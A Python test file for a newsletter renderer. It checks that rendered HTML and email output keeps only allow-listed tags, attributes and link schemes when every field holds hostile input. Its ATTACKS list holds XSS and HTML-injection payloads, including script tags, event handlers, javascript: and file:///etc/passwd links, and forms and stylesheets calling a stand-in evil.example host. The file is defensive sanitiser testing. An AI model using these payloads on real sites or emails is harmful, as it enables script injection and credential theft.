"""Whoever wrote a field: what comes out holds nothing but what an allow-list names."""

from collections.abc import Iterable
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
from lxml.html import HtmlElement

from making import MASTHEAD, a_press, a_summary, an_issue
from pprmail.model.issue import Issue
from pprmail.model.summary import TextFormat
from pprmail.model.topic import Topic, Topics
from pprmail.rendering.letter import Press
from pprmail.rendering.pages import Pages
from pprmail.rendering.prose import TAGS as PROSE
from rendering.letters import a_full_issue, read_by
from rendering.reading import elements, shown

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src onerror=x>'>",
    "<img src=x onerror=alert(1)>",
    "<style>* { background: url(https://evil.example/) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '"><a href="javascript:alert(1)" onclick="x()">y</a>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) [z](java\tscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,AA) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "</td></tr></table></div></body></html><p>after",
    "--><!-- <![endif]-->",
    "<!--[if mso]><p>only in Word</p><![endif]-->",
    "</title><script>x</script>",
    "</style><p>x",
    "]]><![CDATA[<script>x</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x&#x3e;",
]

TAGS = set(
    "html head meta title style body div table tbody thead tr td th p h1 h2 h3 a ul ol li span br hr"
    " strong em code pre blockquote".split()
)
ATTRIBUTES = set(
    "lang dir charset name content class style bgcolor width cellpadding cellspacing border align"
    " role aria-label aria-roledescription href id start valign".split()
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("text_format", TextFormat)
def test_no_field_brings_in_a_tag_an_attribute_or_a_scheme(
    attack: str, text_format: TextFormat
) -> None:
    press = a_hostile_press(attack)
    for selection in (0, 1):
        html, _ = read_by(press.edition(a_hostile_issue(attack, text_format), selection), attack)
        assert_harmless(elements(html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_pages_of_the_same_summaries_are_as_harmless(attack: str) -> None:
    tame = [e for source in pages_with("harmless") for e in elements(source)]
    found = [e for source in pages_with(attack) for e in elements(source)]
    assert {e.tag for e in found} <= {e.tag for e in tame} | PROSE
    known = {(e.tag, name) for e in tame for name in e.attrib} | {("ol", "start")}
    assert {(e.tag, name) for e in found for name in e.attrib} <= known
    assert all(is_harmless(e.get("href", "")) for e in found if e.tag == "a")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_field_changes_nothing_around_it(attack: str) -> None:
    tame, hostile = a_full_issue(1), a_full_issue(1)
    tame.summaries[0].citation, hostile.summaries[0].citation = "Nothing to be read", attack
    assert tags(tame) == tags(hostile)


def test_markup_in_plain_fields_is_shown_as_it_was_typed() -> None:
    attack = "<b>bold</b> & <script>x</script> *not* 1. [l](https://example.org)"
    summary = a_summary(
        attack, citation=attack, body=attack, implications=attack, text_format=TextFormat.PLAIN
    )
    edition = a_press().edition(an_issue(summary), 1)
    assert shown(edition.html).count(attack) == 5
    assert edition.text.replace("\n", " ").count(attack) == 5


def tags(issue: Issue) -> list[str]:
    return [e.tag for e in elements(a_press().edition(issue, 1).html)]


def pages_with(attack: str) -> tuple[str, str]:
    press = a_hostile_press(attack)
    pages = Pages(press.shelf, press.views)
    issue = a_hostile_issue(attack, TextFormat.MARKDOWN)
    return (
        pages.summary(issue.summaries[0]),
        pages.issue(issue, issue.summaries, month="2026-11"),
    )


def a_hostile_press(attack: str) -> Press:
    masthead = replace(MASTHEAD, name=attack, postal_address=attack, reply_to=attack)
    return a_press(masthead, Topics((Topic("hostile", attack, attack),)))


def a_hostile_issue(attack: str, text_format: TextFormat) -> Issue:
    summary = a_summary(
        f"Title {attack}",
        topics=["hostile"],
        text_format=text_format,
        citation=attack,
        doi=f"10.1000/{attack}",
        type_of_research=attack,
        in_brief=attack,
        body=attack,
        implications=attack,
    )
    return an_issue(summary, introduction=attack, notices=attack, subject=attack, preheader=attack)


def assert_harmless(found: Iterable[HtmlElement]) -> None:
    for element in found:
        assert element.tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES
        assert is_harmless(element.get("href", ""))
        assert not (element.tag == "style" and "evil" in (element.text or ""))


def is_harmless(link: str) -> bool:
    return urlsplit(link).scheme in {"https", "mailto", ""}
